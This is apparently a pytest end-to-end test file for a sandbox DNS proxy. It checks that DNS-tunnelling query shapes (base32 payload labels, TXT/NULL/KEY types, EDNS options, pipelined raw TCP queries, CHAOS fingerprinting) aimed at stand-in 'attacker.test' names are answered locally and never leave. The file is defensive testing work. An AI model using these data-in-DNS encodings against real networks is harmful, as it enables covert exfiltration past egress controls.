"""End-to-end attacks on the DNS listener, with the query shapes of DNS
tunnelling tools (dnscat2: TXT/CNAME/MX; iodine: NULL, private types, long base32 labels,
EDNS0; dns2tcp: TXT/KEY) and of resolver fingerprinting (CHAOS `hostname.bind`), sent by
real `dig` and, where dig would normalise them away, as raw bytes from the sandbox.

Same sandbox as test_dns.py (real dnsmasq resolvers logging every query they receive): a
name the allowlist does not match never leaves, and for a name under an allowlisted
wildcard only what docs/dns.md says leaves — an A/AAAA lookup of the lower-cased name, made
by the proxy's own resolver, with none of the sandbox's EDNS options.
"""

from __future__ import annotations

import base64
import json
import re
import secrets

import pytest

from e2e.support.transparent_lab import RESOLVER_V4, SYSTEM_PYTHON
from e2e.test_dns import assert_never_left, box, dig, metric, token  # noqa: F401  (box is a fixture)


def base32_labels(payload: bytes) -> str:
    """What iodine/dnscat2 put in a name: the payload, base32, in labels of up to 63 characters."""
    text = base64.b32encode(payload).decode().rstrip("=").lower()
    return ".".join(text[i : i + 63] for i in range(0, len(text), 63))


TUNNEL_QTYPES = ["TXT", "NULL", "CNAME", "MX", "SRV", "ANY", "KEY", "NS", "SOA", "CAA", "TYPE65399", "TYPE10"]
EDNS = ["+subnet=198.18.0.0/24", "+cookie", "+ednsopt=65001:" + secrets.token_hex(16), "+bufsize=65535"]


@pytest.mark.parametrize("qtype", TUNNEL_QTYPES)
def test_tunnel_record_types_under_an_allowlisted_wildcard_never_leave(box, qtype):  # noqa: F811
    """`*.wild.example.test` is allowlisted: still, only A/AAAA of its names are ever resolved;
    every record type a tunnel carries data back in is answered here, empty."""
    data = token()
    name = f"{base32_labels(secrets.token_bytes(60))}.{data}.wild.example.test"
    assert dig(box, *EDNS, name, qtype) == ("NOERROR", "")
    assert_never_left(box, data)


@pytest.mark.parametrize("qtype", TUNNEL_QTYPES + ["A", "AAAA"])
def test_tunnel_queries_for_names_not_allowlisted_never_leave(box, qtype):  # noqa: F811
    data = token()
    name = f"{base32_labels(secrets.token_bytes(100))}.{data}.tunnel.attacker.test"
    assert dig(box, *EDNS, "+tcp" if qtype == "NULL" else "+notcp", name, qtype) == ("NXDOMAIN", "")
    assert_never_left(box, data)


def test_what_leaves_under_a_wildcard_is_the_lower_cased_a_lookup_only(box):  # noqa: F811
    """0x20 case randomisation and EDNS options are the sandbox's: the resolver gets the proxy's own
    lookup of the normalised name (docs/dns.md: labels under a wildcard reach that domain's servers)."""
    data = token()
    mixed = "".join(c.upper() if i % 2 else c for i, c in enumerate(data))
    assert dig(box, *EDNS, f"{mixed}.Wild.Example.TEST", "A") == ("NOERROR", "")
    logged = box.all_queries()
    assert f"query[A] {data}.wild.example.test" in logged
    assert mixed not in logged
    # The proxy's own lookups are plain getaddrinfo ones: A and AAAA only, never another type.
    asked = [m.group(1) for line in logged.splitlines() if data in line and (m := re.search(r"query\[(\w+)\]", line))]
    assert set(asked) <= {"A", "AAAA"}, asked


RAW_TCP = r"""
import json, socket, struct, sys
def wire(name): return b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
def query(ident, name, qtype, qclass=1, flags=0x0100, qd=1, extra=b"", ar=0):
    return struct.pack("!HHHHHH", ident, flags, qd, 0, 0, ar) + (wire(name) + struct.pack("!HH", qtype, qclass) if qd else b"") + extra
cookie_opt = b"\0\0\x29\x04\xd0\0\0\0\0\0\x0c\0\x0a\0\x08" + b"\x11" * 8  # OPT with a client COOKIE
data = sys.argv[2]
messages = [
    query(1, "dnsonly.example.test", 1),
    query(2, data + ".pipelined.attacker.test", 16),
    query(3, data + ".pipelined.wild.example.test", 10),
    query(4, "dnsonly.example.test", 251),  # IXFR
    query(5, "hostname.bind", 16, qclass=3),  # CHAOS
    query(6, data + ".attacker.test", 16, qd=0, extra=cookie_opt, ar=1),  # QDCOUNT=0, a COOKIE only
    query(7, data + ".update.attacker.test", 6, flags=0x2800),  # UPDATE
    query(8, "dnsonly.example.test", 28),
]
c = socket.create_connection((sys.argv[1], 53), timeout=5)
c.sendall(b"".join(struct.pack("!H", len(m)) + m for m in messages))  # all pipelined in one write
got = {}
buf = b""
try:
    while len(got) < len(messages):
        chunk = c.recv(65536)
        if not chunk:
            break
        buf += chunk
        while len(buf) >= 2 and len(buf) >= 2 + struct.unpack("!H", buf[:2])[0]:
            size = struct.unpack("!H", buf[:2])[0]
            m, buf = buf[2 : 2 + size], buf[2 + size :]
            got[struct.unpack("!H", m[:2])[0]] = {"rcode": m[3] & 15, "an": struct.unpack("!H", m[6:8])[0]}
except OSError as e:
    got["error"] = type(e).__name__
print(json.dumps(got))
"""


def test_pipelined_tcp_queries_each_get_their_own_local_answer(box):  # noqa: F811
    script = box.public / "rt2_raw_tcp.py"
    script.write_text(RAW_TCP)
    script.chmod(0o644)
    data = token()
    out = box.exec(SYSTEM_PYTHON, "-I", str(script), RESOLVER_V4, data, timeout=60)
    assert out.returncode == 0, out.stderr
    got = {int(k): v for k, v in json.loads(out.stdout).items()}
    assert got == {
        1: {"rcode": 0, "an": 1},  # allowlisted A
        2: {"rcode": 3, "an": 0},  # TXT of a name not allowlisted: NXDOMAIN
        3: {"rcode": 0, "an": 0},  # NULL under the wildcard: NODATA
        4: {"rcode": 5, "an": 0},  # IXFR: REFUSED
        5: {"rcode": 5, "an": 0},  # CHAOS hostname.bind: REFUSED
        6: {"rcode": 1, "an": 0},  # no question, a cookie only: FORMERR
        7: {"rcode": 5, "an": 0},  # UPDATE: REFUSED
        8: {"rcode": 0, "an": 0},  # AAAA of an IPv4-only name: NODATA
    }, got
    assert_never_left(box, data)
    assert "hostname.bind" not in box.all_queries()


@pytest.mark.parametrize("name", ["loop.wild.example.test", "meta.wild.example.test", "LOOP.Wild.Example.Test."])
@pytest.mark.parametrize("qtype", ["A", "AAAA"])
def test_a_wildcard_name_that_resolves_to_forbidden_addresses_gets_an_empty_answer(box, name, qtype):  # noqa: F811
    """`*.wild.example.test` allows the name; its addresses (loopback, metadata) are still dropped."""
    reasons = ("loopback", "forbidden_address")
    before = sum(metric(box.proxy, "egress_dns_queries_total", reason=r, qtype=qtype) for r in reasons)
    assert dig(box, name, qtype) == ("NOERROR", "")
    # Counted with the reason: the resolver did answer them, the proxy dropped them.
    assert sum(metric(box.proxy, "egress_dns_queries_total", reason=r, qtype=qtype) for r in reasons) == before + 1


REPORT_SPEC = 'network:\n  mode: report\n  allowCidrs: ["198.18.0.0/15"]\n  allowlist:\n    - domain: dnsonly.example.test\n'


@pytest.mark.parametrize(
    "name, qtype, kept",
    [("loop.wild.example.test", "A", []), ("loop.wild.example.test", "AAAA", []), ("loop.example.test", "A", []),
     ("mixed.dns.example.test", "A", ["169.254.169.254", "198.18.0.12"]), ("meta.wild.example.test", "AAAA", ["fd00:ec2::254"])],
)  # fmt: skip
def test_report_mode_relay_never_names_loopback(box, name, qtype, kept):  # noqa: F811  # was a defect
    """Report mode forwards a name off the allowlist to the resolver and relays its answer; loopback
    stays blocked in report mode (a connection to it is refused), and the relay passed `127.0.0.1` /
    `::1` through while an allowlisted name's answer dropped them. Metadata is kept, as a connection
    in report mode is let through to it (docs/operations.md, *Report mode*)."""
    from e2e.support.lab import ProxyProcess

    dns_port = box.free_port()
    report = ProxyProcess(box, REPORT_SPEC, ["--dns-listen", f"127.0.0.1:{dns_port}"], env=None, name="report.yaml")
    report.start()
    try:
        # as root: the sandbox's filter drops a process's UDP to loopback (this listener is not the redirected one)
        out = box.exec("dig", "+short", "+tries=2", "+time=3", "-p", str(dns_port), "@127.0.0.1", name, qtype, as_root=True)
        assert sorted(out.stdout.split()) == kept, out.stdout + out.stderr
        assert name in box.cluster.queries()  # it was forwarded: report mode lets it pass
    finally:
        report.stop()
